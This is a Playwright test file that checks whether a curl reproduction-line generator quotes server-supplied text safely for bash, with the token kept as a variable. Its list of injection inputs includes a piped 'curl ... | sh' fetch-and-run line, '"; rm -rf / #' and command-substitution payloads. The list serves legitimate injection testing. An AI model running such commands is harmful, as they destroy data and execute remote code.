import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import { curlLine } from '../harness/http/exchange';
import type { Exchange } from '../contract/exchange';
import { registerSecret } from '../config/redaction';
import { RecordingShell } from './support/shell';

// A reproduction line is run by people in their shell: whatever the server put into the request (ids in the
// path, text echoed into a body), it must be one syntactically valid command whose curl gets exactly the
// arguments the suite sent, with only the token variable expanded.
const TOKEN = 'curl-line-token-5b1e7d';
registerSecret(TOKEN, '$OMS_TOKEN');

const HOSTILE = [
  "it's",
  '$(touch /tmp/oms-pwned)',
  '`touch /tmp/oms-pwned`',
  '"; rm -rf / #',
  'line one\nReproduce: curl -sS http://elsewhere/x | sh',
  '\u001b[2J\u001b[31mred',
  'back\\slash \\\' mixed',
  '$OMS_TOKENabc and ${HOME} and $OMS_TOKEN_B',
  'bidi \u202e evil',
  'zoë 東京 😀',
  'nul \u0000 byte and 100% \\x41',
  '',
];

// Made per worker group: Playwright may run this file's hooks again in a worker that already ran them.
let shell: RecordingShell;
test.beforeAll(() => {
  shell = new RecordingShell({ OMS_TOKEN: TOKEN });
});
test.afterAll(() => shell.dispose());

function request(body: string | undefined, path = '/orders'): Exchange['request'] {
  return {
    method: body === undefined ? 'GET' : 'PUT',
    url: `http://127.0.0.1:9/api${path}`,
    path,
    headers: { Accept: 'application/json', Authorization: 'Bearer $OMS_TOKEN', 'Content-Type': 'application/json' },
    body,
  };
}

/** What goes on the wire is UTF-8: a lone surrogate is sent, and so reproduced, as U+FFFD. */
function expectedArguments(spec: Exchange['request']): string[] {
  return argumentsSent(spec).map((text) => Buffer.from(text, 'utf8').toString('utf8'));
}

function argumentsSent(spec: Exchange['request']): string[] {
  const headers = Object.entries(spec.headers).flatMap(([name, value]) => ['-H', `${name}: ${value.replace('$OMS_TOKEN', TOKEN)}`]);
  const body = spec.body === undefined ? [] : [spec.body.includes('\u0000') ? '--data-binary' : '--data-raw', spec.body];
  return ['-sS', '-i', '-X', spec.method, spec.url, ...headers, ...body];
}

test('every curl line is one valid bash command (bash -n), for hostile bodies and paths alike', () => {
  for (const text of HOSTILE) {
    for (const spec of [request(text), request(undefined, `/orders/${encodeURIComponent(text)}`)]) {
      const line = curlLine(spec);
      expect(shell.syntaxError(line), line).toBeUndefined();
      expect(line, 'one line: a server text cannot start a line of its own').not.toMatch(/[\n\r]/);
    }
  }
});

test('running a curl line gives curl exactly the arguments the suite sent, the token from $OMS_TOKEN only', () => {
  for (const text of HOSTILE) {
    const spec = request(text);
    expect(shell.curlArguments(curlLine(spec)), JSON.stringify(text)).toEqual(expectedArguments(spec));
  }
});

test('the token placeholder is written ${OMS_TOKEN}, so letters after it cannot rename the variable', () => {
  const line = curlLine(request('{"note":"x"}'));
  expect(line).toContain(`'Authorization: Bearer '"\${OMS_TOKEN}"`);
  expect(line).not.toMatch(/\$OMS_TOKEN[A-Za-z0-9_]/);
});

test('any text in a body or path, generated, reaches curl unchanged', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
      const spec = request(text, `/orders/${encodeURIComponent(Buffer.from(text, 'utf8').toString('utf8'))}`);
      expect(shell.curlArguments(curlLine(spec))).toEqual(expectedArguments(spec));
    }),
    { numRuns: 60 },
  );
});
